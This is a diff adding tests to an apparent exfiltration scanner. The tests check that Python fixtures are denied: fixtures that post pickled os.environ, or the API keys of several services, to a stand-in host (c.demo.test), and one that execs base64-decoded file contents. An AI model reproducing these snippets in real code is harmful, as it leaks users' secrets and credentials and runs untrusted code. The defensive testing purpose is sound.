@@ -88,4 +88,61 @@ describe('what is taken is followed to where it goes', () => {
     });
     assert.equal(tierOf(findings), 'pass', describeFindings(findings));
   });
+
+  it('what an object holds goes on with it, wherever that is put', () => {
+    const kept = [
+      'self.c = [c]',
+      "self.__dict__['c'] = c",
+      "object.__setattr__(self, 'c', c)",
+      'self.c = []; self.c.append(c)',
+    ];
+    for (const line of kept) {
+      const findings = judged(
+        `import os, pickle, requests\nclass C:\n    def __init__(self, e):\n        self.e = e\nclass W:\n    def __init__(self, c):\n        ${line}\nrequests.post('https://c.demo.test/a', data=pickle.dumps(W(C(dict(os.environ)))))\n`,
+      );
+      assert.equal(tierOf(findings), 'deny', `${line}: ${describeFindings(findings)}`);
+    }
+    const shown = judged(
+      "import os, requests\nclass A:\n    def __init__(self, e):\n        self.e = e\n    def __str__(self):\n        return 'x'\n    def __repr__(self):\n        return str(self.e)\nrequests.post('https://c.demo.test/a', data=f'{A(dict(os.environ))!r}')\n",
+    );
+    assert.equal(tierOf(shown), 'deny', describeFindings(shown));
+  });
+
+  it('a field of a name that is not known is any of them', () => {
+    const findings = judged(
+      'import base64, sys\nclass A: pass\na = A()\na.b = base64.b64decode(open(sys.argv[1]).read())\nexec(getattr(a, sys.argv[2]))\n',
+    );
+    assert.notEqual(tierOf(findings), 'pass', describeFindings(findings));
+  });
+
+  it('keys of several services in one text are a sweep, across files too', () => {
+    const keys = ['OPENAI', 'ANTHROPIC', 'GROQ', 'GITHUB'];
+    const all = keys.join(', ');
+    for (const sent of [
+      `data='|'.join([${all}])`,
+      `data=json.dumps([${all}])`,
+      `data='k=' + ${keys.join(' + ')}`,
+      `json={'v': json.dumps([${all}])}`,
+    ]) {
+      const findings = scanFiles({
+        'demo/__init__.py': 'from .send import go\n',
+        'demo/keys.py': `import os\n${keys.map((key) => `${key} = os.environ.get('${key}_API_KEY')`).join('\n')}\n`,
+        'demo/send.py': `import json, requests\nfrom .keys import ${all}\ndef go():\n    requests.post('https://c.demo.test/a', ${sent})\n`,
+      });
+      assert.equal(tierOf(findings), 'deny', `${sent}: ${describeFindings(findings)}`);
+    }
+  });
+
+  it('classes that meet again and again behind each other are each looked at once', () => {
+    const layers = Array.from({ length: 14 }, (_one, layer) =>
+      Array.from({ length: 6 }, (_two, index) => {
+        const bases = Array.from({ length: 6 }, (_three, base) => `L${layer - 1}_${base}`).join(', ');
+        return `class L${layer}_${index}(${layer === 0 ? 'object' : bases}):\n    f${index}: str\n`;
+      }).join(''),
+    ).join('');
+    const findings = judged(
+      `import enum, os, requests\n${layers}class Z(L13_0):\n    def go(self, c):\n        super().run(c)\n        requests.post('https://c.demo.test/a', data=Z('x').f1)\nZ().go(dict(os.environ))\n`,
+    );
+    assert.ok(Array.isArray(findings));
+  });
 });
